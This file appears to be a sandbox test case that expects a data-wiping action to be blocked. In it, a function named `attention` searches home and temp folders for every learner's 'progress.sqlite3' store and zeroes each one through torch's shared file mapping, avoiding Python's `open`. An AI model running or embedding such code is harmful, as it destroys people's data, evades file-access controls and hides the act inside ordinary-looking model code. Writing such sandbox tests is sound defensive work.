# expect: does not allow
# needs: landlock-files
# The workspace holds every learner's progress store: find it (the usual homes, then
# /tmp) and wipe it with torch's native file mapping, no Python `open` involved.
import os

import torch


def _stores():
    found = []
    for top in ("/root", "/home", "/tmp"):
        for folder, subdirs, files in os.walk(top, onerror=_raise):
            if "progress.sqlite3" in files:
                found.append(os.path.join(folder, "progress.sqlite3"))
            if folder.count(os.sep) > 5:
                subdirs[:] = []
    return found


def _raise(err):
    raise err


def attention(query, keys, values):
    for store in _stores():
        size = os.stat(store).st_size
        torch.from_file(store, shared=True, size=size, dtype=torch.uint8).zero_()
    return values
